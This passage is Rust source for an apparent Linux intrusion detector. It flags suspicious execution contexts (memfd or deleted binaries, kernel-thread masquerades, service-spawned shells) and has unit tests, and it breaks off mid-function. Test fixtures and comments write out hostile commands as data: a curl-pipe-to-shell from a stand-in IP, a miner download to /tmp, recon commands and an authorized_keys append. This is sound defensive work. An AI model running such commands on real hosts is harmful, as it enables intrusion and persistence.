//! Execution context: where and as what a process runs. Deleted and memfd executables, executables in
//! temp, hidden or home directories, kernel-thread names on user processes, a program name that differs
//! from its executable, system program names running from unusual paths, and shells or downloaders
//! spawned by network services.
//!
//! Rules: `MT-RUN-030` deleted executable, `MT-RUN-031` memfd executable, `MT-RUN-032` executable in a
//! temp, hidden or home directory, `MT-RUN-033` kernel-thread name on a user process, `MT-RUN-034` renamed
//! program, `MT-RUN-035` system program name from an unusual path, `MT-RUN-036` shell or downloader child of
//! a network service.

use std::collections::HashMap;

use minetrace_schemas::findings::{Finding, Severity};
use minetrace_schemas::records::process::ProcessRecord;
use minetrace_schemas::RawBytes;

use super::support::{self, Conn, Names};
use crate::detect::finding::{
    describe_process, exe_subject, file_subject, finding, path_subject, process_subject, FindingExt,
};
use crate::detect::rules::{self, Rule};
use crate::detect::Context;
use crate::indicators::{Kind, PathClass, ServiceClass};
use crate::model::service_logs::RECON_MIN_ITEMS;

/// Facts that raise any context finding by a step: busy CPU, an outbound connection, a miner command line.
struct Raise {
    lines: Vec<String>,
}

impl Raise {
    fn of(ctx: &Context, p: &ProcessRecord, conns: &HashMap<i32, Vec<Conn>>) -> Raise {
        let mut lines = Vec::new();
        if let Some(c) = support::busy(ctx.model, p) {
            lines.push(support::describe_cpu(&c));
        }
        let first = conns.get(&p.pid).and_then(|v| v.first());
        if let Some(c) = first {
            lines.push(format!("holds a connection to {}", c.socket.remote));
        }
        lines.extend(support::miner_cmdline(ctx, p));
        Raise { lines }
    }
    fn any(&self) -> bool {
        !self.lines.is_empty()
    }
    /// High when the disguise is strong, else medium; a step up when any raising fact holds.
    fn severity(&self, strong: bool) -> Severity {
        let severity = if strong {
            Severity::High
        } else {
            Severity::Medium
        };
        if self.any() {
            up(severity)
        } else {
            severity
        }
    }
}

fn up(s: Severity) -> Severity {
    match s {
        Severity::Info => Severity::Low,
        Severity::Low => Severity::Medium,
        Severity::Medium => Severity::High,
        Severity::High | Severity::Critical => Severity::Critical,
    }
}

fn base(ctx: &Context, rule: &Rule, severity: Severity, p: &ProcessRecord) -> Finding {
    let mut f = finding(rule, severity)
        .subject(process_subject(p))
        .evidence(describe_process(p));
    if let Some(x) = exe_subject(ctx.model, p) {
        f = f.subject(x);
    }
    f
}

pub fn detect(ctx: &Context) -> Vec<Finding> {
    let model = ctx.model;
    let conns = support::connections_by_pid(model);
    let mut out = Vec::new();
    for p in &model.processes {
        if support::is_kernel_thread(p) {
            continue;
        }
        let names = Names::of(p);
        let raise = Raise::of(ctx, p, &conns);
        out.extend(deleted_or_memfd(ctx, p, &raise));
        out.extend(odd_dir(ctx, p, &raise));
        out.extend(kthread_name(ctx, p, &names, &raise));
        out.extend(renamed(ctx, p, &names));
        out.extend(system_name_elsewhere(ctx, p, &names, &raise));
        out.extend(service_child(ctx, p, &names));
        out.extend(mapped_code(ctx, p, &names));
    }
    out
}

/// `MT-RUN-030` / `MT-RUN-031`. A deleted executable under a system directory (package upgrade) is info;
/// in a home directory low; anywhere else medium. A memfd executable is medium (info for runc's own
/// clone). One step up with busy CPU, a connection or a miner command line.
fn deleted_or_memfd(ctx: &Context, p: &ProcessRecord, raise: &Raise) -> Option<Finding> {
    let exe = p.exe.as_ref()?;
    let path = support::exe_path(p)?;
    let (rule, mut severity, why): (&Rule, _, String) = if exe.memfd {
        let name = support::lower(path);
        let benign = ctx
            .iocs
            .set(Kind::MemfdBenign)
            .any(|b| name.contains(&format!("memfd:{b}")));
        (
            &rules::RUN_031,
            if benign {
                Severity::Info
            } else {
                Severity::Medium
            },
            if benign {
                "memfd name belongs to a container runtime that re-executes itself from memory"
                    .into()
            } else {
                "the executable exists only in memory (memfd_create), never on disk".into()
            },
        )
    } else if exe.deleted {
        let upgrade = support::upgrade_like(ctx, path);
        let severity = if upgrade {
            Severity::Info
        } else if support::in_home(ctx, path) && !support::under(ctx, PathClass::Temp, path) {
            Severity::Low
        } else {
            Severity::Medium
        };
        let why = if upgrade {
            "deleted under a system directory: most often a package upgrade replaced it while it ran".into()
        } else {
            "the executable was deleted from disk while it runs (nlink 0)".into()
        };
        (&rules::RUN_030, severity, why)
    } else {
        return None;
    };
    if raise.any() && severity != Severity::Info {
        severity = up(severity);
    }
    let mut f = base(ctx, rule, severity, p).evidence(why);
    for l in &raise.lines {
        f = f.evidence(l.clone());
    }
    Some(f)
}

/// Where a program path sits, for `MT-RUN-032`: severity and why (`None` when the place is ordinary).
fn place_of(ctx: &Context, path: &[u8], raise: &Raise, what: &str) -> Option<(Severity, String)> {
    let shm = support::under(ctx, PathClass::Shm, path);
    let temp = support::under(ctx, PathClass::Temp, path);
    let hidden = support::under(ctx, PathClass::Hidden, path);
    let home = support::in_home(ctx, path);
    let (severity, why) = if shm {
        (
            Severity::Medium,
            "from shared memory (/dev/shm and the like)",
        )
    } else if temp && hidden {
        (
            Severity::Medium,
            "from a hidden directory inside a temp directory",
        )
    } else if support::under(ctx, PathClass::Nonexec, path) {
        (
            Severity::Medium,
            "from a configuration, log or spool directory (/etc, /var/log, ...), where programs do not belong",
        )
    } else if temp {
        (Severity::Low, "from a world-writable temp directory")
    } else if hidden {
        (Severity::Low, "from a hidden directory or is a hidden file")
    } else if home && raise.any() {
        (Severity::Info, "from a home directory")
    } else {
        return None;
    };
    Some((
        severity,
        format!("{what} {} {why}", RawBytes::from(path).escaped()),
    ))
}

/// `MT-RUN-032`: a program in shared memory, a hidden directory inside a temp directory or a
/// configuration directory (medium), a temp or hidden directory (low), or a plain home directory (info,
/// only with busy CPU, a connection or a miner command line). The program is the executable, or the
/// script a shell or interpreter runs (`bash /var/tmp/.x/run`: the packaged bash is not the program); a
/// process chrooted into a root filesystem in a temp or hidden directory counts as the former. One step
/// up with a miner command line. A test or build binary a build tool started (`cargo`, `make`, a
/// compiler: `cpu_heavy_tool` ancestors) with no remote connection is never above low.
fn odd_dir(ctx: &Context, p: &ProcessRecord, raise: &Raise) -> Option<Finding> {
    let exe = p.exe.as_ref()?;
    if exe.memfd {
        return None;
    }
    let path = support::exe_path(p)?;
    let mut worst: Option<(Severity, String)> = place_of(ctx, path, raise, "runs");
    let scripts = support::scripts_run(p);
    for sp in &scripts {
        if let Some(found) = place_of(ctx, sp, raise, "runs the script") {
            if worst.as_ref().is_none_or(|w| found.0 > w.0) {
                worst = Some(found);
            }
        }
    }
    if let Some(root) = support::own_root(p).filter(|r| support::under(ctx, PathClass::KitProne, r))
    {
        let found = (
            Severity::Medium,
            format!(
                "runs chrooted into {}, a root filesystem in a temp or hidden directory",
                RawBytes::from(root).escaped()
            ),
        );
        if worst.as_ref().is_none_or(|w| found.0 > w.0) {
            worst = Some(found);
        }
    }
    let (mut severity, why) = worst?;
    // Only a miner command line raises it: a busy or networked build or test binary under /tmp is ordinary,
    // and pool traffic and CPU are judged by their own rules.
    let miner = !support::miner_cmdline(ctx, p).is_empty();
    if miner {
        severity = up(severity);
    }
    // A build tool's test or build step runs from temp directories and talks to the servers its tests
    // start (the one judgement every place-and-connection rule reads: `support::Placement`).
    let mut built = None;
    if !miner && severity > Severity::Low {
        if let Some(tool) = support::build_step(ctx, p) {
            severity = Severity::Low;
            built = Some(tool);
        }
    }
    let mut f = base(ctx, &rules::RUN_032, severity, p).evidence(why);
    for sp in &scripts {
        f = f.subject(match ctx.model.file(sp) {
            Some(file) => file_subject(file),
            None => path_subject(sp),
        });
    }
    if let Some(tool) = built {
        f = f.evidence(format!(
            "started by the build tool {} with no miner sign: a test or build step",
            support::q(&tool)
        ));
    }
    for l in &raise.lines {
        f = f.evidence(l.clone());
    }
    Some(f)
}

/// `MT-RUN-033`: a kernel-thread name (`[kworker/0:2]`, `kswapd0`, `kthreaddi`) on a process that has an
/// executable or whose parent is not kthreadd. High; critical with busy CPU, a connection or miner flags.
fn kthread_name(ctx: &Context, p: &ProcessRecord, names: &Names, raise: &Raise) -> Option<Finding> {
    let disguise = support::kthread_disguise(ctx, p, names)?;
    let (bracketed, kname) = (disguise.bracketed.as_deref(), disguise.name.as_ref());
    let severity = raise.severity(kname.is_some());
    let mut f = base(ctx, &rules::RUN_033, severity, p);
    if let Some(b) = bracketed {
        f = f.evidence(format!(
            "argv[0] is {}, the bracketed form ps uses for kernel threads",
            support::q(b)
        ));
    }
    if let Some((n, k)) = kname {
        f = f.evidence(format!("name {} imitates kernel thread {k}", support::q(n)));
    }
    f = f.evidence(format!(
        "kernel threads have no executable and are children of kthreadd (pid 2); this one has {} and parent pid {}",
        p.exe.as_ref().map_or_else(|| "no executable".to_owned(), |e| format!("executable {}", e.path.escaped())),
        p.ppid
    ));
    for l in &raise.lines {
        f = f.evidence(l.clone());
    }
    Some(f)
}

/// Whether `comm` is the kernel's 15-byte cut of `name`.
fn comm_of(name: &str, comm: &str) -> bool {
    name == comm || (comm.len() == 15 && name.starts_with(comm))
}

/// `MT-RUN-034`: comm or argv[0] differs from the executable's name while the executable sits in a temp,
/// hidden, deleted or memfd place: a renamed dropper. Low (supporting evidence); elsewhere interpreters,
/// symlinks and process titles make mismatches ordinary, so nothing is reported.
fn renamed(ctx: &Context, p: &ProcessRecord, names: &Names) -> Option<Finding> {
    let exe = names.exe.as_deref()?;
    if !support::strongly_odd(ctx, p) || p.exe.as_ref().is_some_and(|e| e.memfd) {
        return None;
    }
    let comm_differs = !comm_of(exe, &names.comm);
    let argv0_differs = names
        .argv0
        .as_deref()
        .is_some_and(|a| !a.is_empty() && a != exe && !comm_of(a, &names.comm));
    if !comm_differs && !argv0_differs {
        return None;
    }
    let mut f = base(ctx, &rules::RUN_034, Severity::Low, p).evidence(format!(
        "executable name {}, comm {}",
        support::q(exe),
        support::q(&names.comm)
    ));
    if let Some(a) = names.argv0_full.as_deref() {
        f = f.evidence(format!(
            "argv[0] {}",
            minetrace_schemas::escape_bytes(a.as_bytes())
        ));
    }
    Some(f)
}

/// `MT-RUN-035`: a system program's name (sshd, systemd-resolved, httpd, crond, ...) as exe name, comm or
/// argv[0], while the executable is not under a system directory. Medium from a home directory or /opt-less
/// custom place; high from temp, hidden, deleted or memfd places; one step up with a raising fact. A
/// person's own install of the program (`support::own_install`: rootless Docker's `~/bin/dockerd`, run
/// by the home's owner from a visible directory, from a file they own, no miner sign) wears no disguise:
/// low, whatever its CPU or connections (those are judged by their own rules).
fn system_name_elsewhere(
    ctx: &Context,
    p: &ProcessRecord,
    names: &Names,
    raise: &Raise,
) -> Option<Finding> {
    let exe = p.exe.as_ref()?;
    let path = support::exe_path(p)?;
    if support::under(ctx, PathClass::System, path) && !support::under(ctx, PathClass::Hidden, path)
    {
        return None;
    }
    // Interpreters running a script named like a system program are judged by the script, elsewhere.
    let (name, _) = support::name_in(ctx, Kind::SystemName, names)
        .filter(|(n, _)| ctx.iocs.contains(Kind::SystemName, n))?;
    let own = support::own_install(ctx, p);
    let severity = if own.is_some() {
        Severity::Low
    } else {
        raise.severity(support::strongly_odd(ctx, p))
    };
    let mut f = base(ctx, &rules::RUN_035, severity, p).evidence(format!(
        "{} is the name of a system program, but the executable is {}",
        support::q(&name),
        exe.path.escaped()
    ));
    if let Some(account) = &own {
        f = f.evidence(format!(
            "{}'s own install: run by that account from a visible directory of its home, from a file it owns, with no miner sign",
            support::q(account)
        ));
    }
    for l in support::odd_places(ctx, p)
        .iter()
        .map(ToString::to_string)
        .chain(raise.lines.iter().cloned())
    {
        f = f.evidence(l);
    }
    Some(f)
}

/// `MT-RUN-036`: a shell or downloader whose parent is a network service (the service table,
/// `services.txt`; logins, schedulers, container APIs and shims are not). Medium under a daemon or an
/// application (redis, nginx, php-fpm, tomcat, confluence, weblogic, jupyter); low under a generic
/// runtime or an interpreter (java, node, python with no known application) and under a database server
/// (archive and restore commands run shells by design). One step up when the child is a downloader, runs
/// from an odd place, or its `-c` command asks who and where it runs ([`RECON_MIN_ITEMS`] or more
/// `recon_command` / `recon_file` items: `id; uname -a; cat /etc/passwd`, an intruder's first lines through a web shell or a
/// command injection, with no download yet). Low when it is an application shelling out
/// ([`application_shell_out`]: a packaged shell whose `-c` command runs only ordinary, packaged programs,
/// none network-capable or host-changing, reaching no URL or `host:port`: `convert`, `git`).
/// A CI executor's job step (`support::ci_job_step`: Jenkins's `sh -xe /tmp/jenkins123.sh`, a runner's job
/// script) is how CI works and is not reported; an inline `sh -c` or a downloader straight under the
/// executor (its script console exploited) still is.
fn service_child(ctx: &Context, p: &ProcessRecord, names: &Names) -> Option<Finding> {
    let (child, _) = support::name_in(ctx, Kind::ShellOrDownloader, names)?;
    if support::ci_job_step(ctx, p).is_some() {
        return None;
    }
    let parent = ctx.model.process(p.ppid)?;
    let pnames = Names::of(parent);
    let svc = support::service_of(ctx.iocs, parent, &pnames).filter(|s| {
        !(s.is(ServiceClass::Login)
            || s.is(ServiceClass::Scheduler)
            || s.is(ServiceClass::Api)
            || s.is(ServiceClass::Runtime))
    })?;
    let service = svc.name.clone();
    let generic = support::name_in(ctx, Kind::Interpreter, &pnames).is_some()
        || svc.is(ServiceClass::Generic)
        || svc.is(ServiceClass::Database);
    let mut severity = if generic {
        Severity::Low
    } else {
        Severity::Medium
    };
    let downloader = ["curl", "wget"].contains(&child.as_str());
    let command = shell_command(p).map(|text| (text, crate::parse::shell_line::analyze(text)));
    let recon = command
        .as_ref()
        .map(|(_, s)| recon_in(ctx, s))
        .unwrap_or_default();
    // A shell that runs only ordinary programs (ImageMagick's `convert`, `git`, `sendmail`): how
    // applications shell out ([`application_shell_out`]).
    let shell_out = command
        .as_ref()
        .is_some_and(|(text, s)| recon.is_empty() && application_shell_out(ctx, p, text, s));
    if downloader || recon.len() >= RECON_MIN_ITEMS || support::strongly_odd(ctx, p) {
        severity = up(severity);
    } else if shell_out {
        severity = Severity::Low;
    }
    let mut f = base(ctx, &rules::RUN_036, severity, p)
        // The service itself is the exploited, legitimate program: named in the evidence, not a subject a
        // remediation would act on.
        .evidence(format!(
            "parent (the exploited service) {}",
            describe_process(parent)
        ))
        .evidence(format!("{child:?} started by service {service:?}"));
    if downloader {
        f = f.evidence("the child is a downloader (T1105)");
    }
    if recon.len() >= RECON_MIN_ITEMS {
        f = f.evidence(format!(
            "its command asks who and where it runs ({}): discovery through the service (T1082, T1033), what an intruder types first into a web shell",
            recon.join(", ")
        ));
    } else if shell_out && severity == Severity::Low {
        f = f.evidence(
            "a packaged shell whose command runs only ordinary, installed programs (none network-capable or host-changing, none from a web root, a home or a temp place), with no URL, host:port, download, socket, decoder, recon or write to a persistence or access file: how applications shell out",
        );
    }
    Some(f)
}

/// Whether a network service's shell is an application shelling out (ImageMagick's `convert`, `git`,
/// `sendmail`), which is all that lowers `MT-RUN-036`: the shell is one a package vouches for, judged by
/// its executable and not by the name it was started under ([`packaged_shell`]); its command runs at
/// least one program and every one is ordinary ([`ordinary_program`]), every path it runs an installed
/// program ([`installed_program`]: not the web root's, a home's or a temp one); no word reaches a URL or a
/// `host:port`; no path it names is a persistence location or an access file (`echo KEY >>
/// ~/.ssh/authorized_keys`, a crontab spool); and the line is otherwise quiet (no download, socket,
/// decoder, IP, temp or hidden path, history or module tampering: [`ShellLine::is_quiet`]). A shell with
/// no command (an interactive or reverse shell) is no shell-out, nor one that hands its work to another
/// shell, an interpreter or a network tool, whose own text this reading does not see into.
///
/// [`ShellLine::is_quiet`]: crate::parse::shell_line::ShellLine::is_quiet
fn application_shell_out(
    ctx: &Context,
    p: &ProcessRecord,
    text: &[u8],
    s: &crate::parse::shell_line::ShellLine,
) -> bool {
    let reaches = crate::parse::shell_line::words_in_order(text)
        .iter()
        .filter(|(_, redirect)| !redirect)
        .any(|(w, _)| {
            support::parse_host_port(&String::from_utf8_lossy(w))
                .is_some_and(|(_, port)| port.is_some())
        });
    let writes_access = s.paths.iter().any(|path| {
        minetrace_schemas::locations::persistence_location(path).is_some()
            || ctx.iocs.matches_path(Kind::AccessFile, path)
    });
    packaged_shell(ctx, p)
        && !s.download
        && s.urls.is_empty()
        && !reaches
        && !writes_access
        && s.is_quiet(ctx.iocs.paths())
        && !s.commands.is_empty()
        && crate::parse::shell_line::simple_commands(text)
            .iter()
            .all(|(c, args)| ordinary_program(ctx, p, c, args))
        && s.ran.iter().all(|r| installed_program(ctx, &r.path))
}

/// Whether a process's executable is a shell a package vouches for ([`crate::parse::shell_line::SHELLS`]
/// by the executable's own name, in a package directory, its integrity check a match — a configuration
/// check's digest says nothing of a program, see [`crate::model::HostModel::integrity_check`]): `argv[0]` is
/// whatever the starter chose, so a dropped binary started as `sh -c "convert ..."` is no shell. On a
/// host with no package database the collector could read (no check names a package manager: Alpine's
/// apk, a stripped image), nothing vouches for any program, and a shell in a package directory is taken
/// as the host's.
fn packaged_shell(ctx: &Context, p: &ProcessRecord) -> bool {
    use minetrace_schemas::records::package::PackageVerdict;
    let Some(exe) = p.exe.as_ref().filter(|e| !e.deleted && !e.memfd) else {
        return false;
    };
    let path = exe.path.as_bytes();
    let database = ctx.model.package_manager().is_some();
    let vouched = match ctx.model.integrity_check(path) {
        Some(c) if database => c.verdict == PackageVerdict::Match,
        Some(c) => c.verdict != PackageVerdict::Mismatch,
        None => !database,
    };
    crate::parse::shell_line::SHELLS.contains(&support::basename(path))
        && support::under(ctx, PathClass::Package, path)
        && vouched
}

/// Whether a program path is one the service's account could not have planted: in a system directory
/// (path class `system`: the package directories, `/usr/local`, `/opt`), not hidden, temp, in a web
/// root or a home; in a package directory, a file its integrity check (when the collector made one:
/// a `persistence-config` check's `Mismatch` is an admin's edit, no trojan) vouches for and no package
/// check calls unowned; elsewhere (an admin's own build in `/usr/local/bin`, as official container images
/// install ImageMagick), a file the snapshot records owned by root and writable by no one else. An
/// upload directory's `php-cgi`, a home's `bin/`, a file of the service's own account are where an
/// intruder's payload sits; a packaged file whose bytes differ is a trojan.
fn installed_program(ctx: &Context, path: &[u8]) -> bool {
    use minetrace_schemas::records::package::PackageVerdict;
    if !support::under(ctx, PathClass::System, path)
        || support::under(ctx, PathClass::KitProne, path)
        || support::under(ctx, PathClass::WebRoot, path)
        || support::in_home(ctx, path)
    {
        return false;
    }
    let packaged_dir = support::under(ctx, PathClass::Package, path);
    match ctx.model.integrity_check(path).map(|c| c.verdict) {
        Some(PackageVerdict::Match) => return true,
        Some(PackageVerdict::Mismatch) => return false,
        _ => {}
    }
    let unowned = ctx
        .model
        .package_check(path)
        .is_some_and(|c| c.verdict == PackageVerdict::NotOwned);
    if unowned && packaged_dir {
        return false;
    }
    match ctx.model.file_aliased(path) {
        Some(f) => f.uid == 0 && f.mode & 0o022 == 0,
        // The bundle records package directories by need only; what it never saw there is the
        // package's.
        None => packaged_dir,
    }
}

/// Whether a command a service's shell runs (by its basename, with its arguments) is an ordinary program:
/// no shell, interpreter or downloader, not network-capable (`network_tool` in the use its arguments
/// show — `openssl s_client`, not `openssl x509` —, `proxy_tool`, `ssh_client`, `irc_client`,
/// `scan_tool`, `brute_tool`) nor host-changing (`host_changing_tool`: `kill -9`, not `kill -0`), and — run by name —
/// an installed program ([`installed_program`]) where it is first found on the process's search path,
/// as far as the snapshot records the directories of its `PATH` (a program of that name in a web root
/// ahead of `/usr/bin` is what runs).
fn ordinary_program(ctx: &Context, p: &ProcessRecord, command: &[u8], args: &[Vec<u8>]) -> bool {
    let name = String::from_utf8_lossy(command);
    let lower = name.to_ascii_lowercase();
    let special = crate::parse::shell_line::is_interpreter(command)
        || ctx.iocs.contains(Kind::Interpreter, &lower)
        || ctx.iocs.contains(Kind::ShellOrDownloader, &lower)
        || [Kind::NetworkTool, Kind::HostChangingTool]
            .into_iter()
            .any(|k| ctx.iocs.tool_use(k, &name, args))
        || [
            Kind::ProxyTool,
            Kind::SshClient,
            Kind::IrcClient,
            Kind::ScanTool,
            Kind::BruteTool,
        ]
        .into_iter()
        .any(|k| ctx.iocs.contains(k, &name));
    if special {
        return false;
    }
    let Some(path) = support::env_value(p, b"PATH") else {
        return true;
    };
    for dir in path
        .split(|b| *b == b':')
        .filter(|d| d.starts_with(b"/"))
        .take(64)
    {
        let dir = dir.strip_suffix(b"/").unwrap_or(dir);
        let candidate = [dir, b"/", command].concat();
        if ctx.model.file(&candidate).is_some() {
            return installed_program(ctx, &candidate);
        }
    }
    true
}

/// The command text a shell runs (`sh -c TEXT`, `bash -lc TEXT`), when the process goes by a shell's
/// name ([`crate::parse::shell_line::SHELLS`]: not `python -c`, `nc -c`, whose text is no shell line) and
/// was given one. Read for what it asks (recon); only a packaged shell's text can lower the finding
/// ([`packaged_shell`]).
fn shell_command(p: &ProcessRecord) -> Option<&[u8]> {
    let names = Names::of(p);
    if !names
        .all()
        .iter()
        .any(|n| crate::parse::shell_line::SHELLS.contains(&n.as_bytes()))
    {
        return None;
    }
    let argv = p.argv();
    let at = argv.iter().skip(1).position(|a| {
        *a == b"-c"
            || (a.len() > 1 && a.starts_with(b"-") && !a.starts_with(b"--") && a.ends_with(b"c"))
    })?;
    argv.get(at + 2).copied()
}

/// The recon commands and files a shell command names (`id`, `uname`, `/etc/passwd`), distinct, sorted.
fn recon_in(ctx: &Context, s: &crate::parse::shell_line::ShellLine) -> Vec<String> {
    let mut out: Vec<String> = s
        .commands
        .iter()
        .map(|c| support::lower(c))
        .filter(|c| ctx.iocs.contains(Kind::ReconCommand, c))
        .chain(
            s.paths
                .iter()
                .map(|p| support::lower(p))
                .filter(|p| ctx.iocs.contains(Kind::ReconFile, p)),
        )
        .collect();
    out.sort();
    out.dedup();
    out
}

/// `MT-RUN-037`: a process maps executable code from a file in a temp or hidden place other than its own
/// executable — a Redis module loaded from `/tmp` (`MODULE LOAD`), an injected library. High when the
/// process is a network service (`services.txt`, not an interpreter or JVM, which extract their own
/// native helpers into temp directories); medium for a hidden place; low otherwise. The library is the
/// subject: the service that was made to load it is the host's (named in the evidence).
fn mapped_code(ctx: &Context, p: &ProcessRecord, names: &Names) -> Vec<Finding> {
    let own = p.exe.as_ref().map(|e| e.path.as_bytes());
    let service = support::service_of(ctx.iocs, p, names).map(|s| s.name.clone());
    let runtime = support::name_in(ctx, Kind::Interpreter, names).is_some()
        || support::name_in(ctx, Kind::CpuHeavyTool, names).is_some();
    let mut seen: Vec<&[u8]> = Vec::new();
    let mut out = Vec::new();
    for m in &p.maps {
        let Some(path) = m.path.as_ref().map(|x| x.as_bytes()) else {
            continue;
        };
        if Some(path) == own
            || seen.contains(&path)
            || !support::under(ctx, PathClass::KitProne, path)
        {
            continue;
        }
        seen.push(path);
        let hidden = support::under(ctx, PathClass::Hidden, path);
        let (severity, why) = match &service {
            Some(s) if !runtime => (
                Severity::High,
                format!("the network service {} maps code from a temp or hidden place: a module or library an attacker made it load", support::q(s)),
            ),
            _ if hidden => (Severity::Medium, "maps code from a hidden place".to_owned()),
            _ => (Severity::Low, "maps code from a temp directory".to_owned()),
        };
        let subject = match ctx.model.file(path) {
            Some(f) => file_subject(f),
            None => path_subject(path),
        };
        out.push(
            finding(&rules::RUN_037, severity)
                .subject(subject)
                .evidence(format!(
                    "{} mapped executable by {}",
                    RawBytes::from(path).escaped(),
                    describe_process(p)
                ))
                .evidence(why),
        );
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::indicators::Indicators;
    use crate::model::fixture;

    /// A process in a CI job's environment (the variables its executor sets for each build).
    fn in_job(mut p: ProcessRecord) -> ProcessRecord {
        for name in [&b"BUILD_TAG"[..], b"WORKSPACE"] {
            p.env.push(minetrace_schemas::records::process::EnvVar {
                name: RawBytes::from(name),
                value: None,
            });
        }
        p
    }

    /// Review s4 item 10: Jenkins runs its build steps as `sh -xe /tmp/jenkinsNNN.sh`, which is CI; an
    /// inline `sh -c` or a downloader under Jenkins is its script console exploited, and a shell under a
    /// web server stays what it was.
    #[test]
    fn a_ci_executors_job_step_is_no_service_child() {
        let jenkins: &[&[u8]] = &[
            b"/usr/bin/java",
            b"-jar",
            b"/usr/share/java/jenkins.war",
            b"--httpPort=8080",
        ];
        let model = fixture::model_with_processes(
            vec![],
            vec![],
            vec![
                fixture::process(
                    10,
                    1,
                    115,
                    b"/usr/lib/jvm/java-17-openjdk-amd64/bin/java",
                    jenkins,
                ),
                in_job(fixture::process(
                    11,
                    10,
                    115,
                    b"/usr/bin/dash",
                    &[b"/bin/sh", b"-xe", b"/tmp/jenkins4820417716412785331.sh"],
                )),
                // What a Groovy `Runtime.exec` of the script console left running: a script file, but
                // in Jenkins' own environment (no build's variables).
                fixture::process(14, 10, 115, b"/usr/bin/dash", &[b"sh", b"/tmp/x.sh"]),
                fixture::process(
                    12,
                    10,
                    115,
                    b"/usr/bin/dash",
                    &[b"sh", b"-c", b"curl -fsSL http://198.51.100.7/ldr.sh | sh"],
                ),
                fixture::process(
                    13,
                    10,
                    115,
                    b"/usr/bin/curl",
                    &[b"curl", b"-o", b"/tmp/kdevtmpfsi", b"http://198.51.100.7/k"],
                ),
                fixture::process(20, 1, 33, b"/usr/sbin/nginx", &[b"nginx: worker process"]),
                fixture::process(21, 20, 33, b"/usr/bin/dash", &[b"sh", b"/tmp/x.sh"]),
                // An intruder's launcher named like a runner, in a drop place: no executor of jobs.
                fixture::process(
                    30,
                    1,
                    0,
                    b"/tmp/.x/gitlab-runner",
                    &[b"gitlab-runner", b"run"],
                ),
                in_job(fixture::process(
                    31,
                    30,
                    0,
                    b"/usr/bin/bash",
                    &[b"bash", b"/tmp/.x/job.sh"],
                )),
            ],
        );
        let iocs = Indicators::builtin();
        let found = detect(&Context {
            model: &model,
            iocs: &iocs,
        });
        let sev = |pid: i32| {
            found
                .iter()
                .filter(|f| f.rule == rules::RUN_036.id)
                .find(|f| {
                    f.iter_subjects().any(|s| {
                        matches!(s, minetrace_schemas::findings::Subject::Process { pid: p, .. } if *p == pid)
                    })
                })
                .map(|f| f.severity)
        };
        assert_eq!(sev(11), None, "{found:#?}");
        assert_eq!(
            sev(14),
            Some(Severity::Medium),
            "no job environment: not a build step"
        );
        assert_eq!(sev(12), Some(Severity::Medium));
        assert_eq!(sev(13), Some(Severity::High));
        assert_eq!(sev(21), Some(Severity::Medium));
        assert!(sev(31) >= Some(Severity::Medium), "{found:#?}");
    }

    /// Review s4 item 9: rootless Docker's daemons in the developer's ~/bin are the developer's own
    /// install; a daemon's name on root's hidden copy (threats.md §2: /root/.systemd/systemd-resolved) or
    /// on a copy in a hidden directory of the same home stays a masquerade.
    #[test]
    fn a_persons_own_install_wears_no_disguise() {
        let passwd = b"root:x:0:0:root:/root:/bin/bash\ndev:x:1000:1000::/home/dev:/bin/bash\n";
        let mut dockerd = fixture::file(b"/home/dev/bin/dockerd", Some(b"\x7fELF"));
        dockerd.0.uid = 1000;
        let mut hidden = fixture::file(b"/home/dev/.cache/.d/containerd", Some(b"\x7fELF"));
        hidden.0.uid = 1000;
        let model = fixture::model_with_processes(
            vec![
                fixture::file(b"/etc/passwd", Some(passwd)),
                dockerd,
                hidden,
                fixture::file(b"/root/.systemd/systemd-resolved", Some(b"\x7fELF")),
            ],
            vec![],
            vec![
                fixture::process(30, 1, 1000, b"/home/dev/bin/dockerd", &[b"dockerd"]),
                fixture::process(
                    31,
                    1,
                    1000,
                    b"/home/dev/.cache/.d/containerd",
                    &[b"containerd"],
                ),
                fixture::process(
                    32,
                    1,
                    0,
                    b"/root/.systemd/systemd-resolved",
                    &[
                        b"/root/.systemd/systemd-resolved",
                        b"--config=/root/.systemd/config.json",
                    ],
                ),
            ],
        );
        let iocs = Indicators::builtin();
        let found = detect(&Context {
            model: &model,
            iocs: &iocs,
        });
        let sev = |pid: i32| {
            found
                .iter()
                .filter(|f| f.rule == rules::RUN_035.id)
                .find(|f| {
                    f.iter_subjects().any(|s| {
                        matches!(s, minetrace_schemas::findings::Subject::Process { pid: p, .. } if *p == pid)
                    })
                })
                .map(|f| f.severity)
        };
        assert_eq!(sev(30), Some(Severity::Low), "{found:#?}");
        assert!(sev(31) >= Some(Severity::Medium));
        assert!(sev(32) >= Some(Severity::Medium));
    }

    /// The package manager the fixture's package checks name.
    const DPKG: Option<minetrace_schemas::records::package::PackageManager> =
        Some(minetrace_schemas::records::package::PackageManager::Dpkg);

    /// MT-RUN-036's severity for a child of php-fpm with this argv (the child's exe is its argv[0]). The
    /// host's shells (`/bin/sh`, `/usr/bin/dash`) are packaged: their package checks match.
    fn judged(child: &[&[u8]]) -> Option<Severity> {
        judged_on(child[0], child, &[], vec![], DPKG)
    }

    /// [`judged`] on a host whose package database the collector could not read: no check names a
    /// package manager.
    fn judged_without_package_database(child: &[&[u8]]) -> Option<Severity> {
        judged_on(child[0], child, &[], vec![], None)
    }

    /// [`judged`] for a child running `exe`, with `env` (`NAME=VALUE`) and these files in the snapshot, on a
    /// host whose package checks name `manager` (`None`: no package database the collector could read).
    fn judged_on(
        exe: &[u8],
        child: &[&[u8]],
        env: &[&[u8]],
        files: Vec<(
            minetrace_schemas::records::file::FileRecord,
            Option<Vec<u8>>,
        )>,
        manager: Option<minetrace_schemas::records::package::PackageManager>,
    ) -> Option<Severity> {
        judged_with_checks(exe, child, env, files, manager, Vec::new())
    }

    /// [`judged_on`] with `first` ahead of the host's shells' own package checks.
    fn judged_with_checks(
        exe: &[u8],
        child: &[&[u8]],
        env: &[&[u8]],
        files: Vec<(
            minetrace_schemas::records::file::FileRecord,
            Option<Vec<u8>>,
        )>,
        manager: Option<minetrace_schemas::records::package::PackageManager>,
        first: Vec<minetrace_schemas::records::package::PackageCheck>,
    ) -> Option<Severity> {
        use minetrace_schemas::records::package::PackageVerdict;
        let iocs = Indicators::builtin();
        let fpm = fixture::process(
            10,
            1,
            33,
            b"/usr/local/sbin/php-fpm",
            &[b"php-fpm: pool www"],
        );
        let mut kid = fixture::process(11, 10, 33, exe, child);
        for e in env {
            let (name, value) = e.split_at(e.iter().position(|b| *b == b'=').unwrap_or(e.len()));
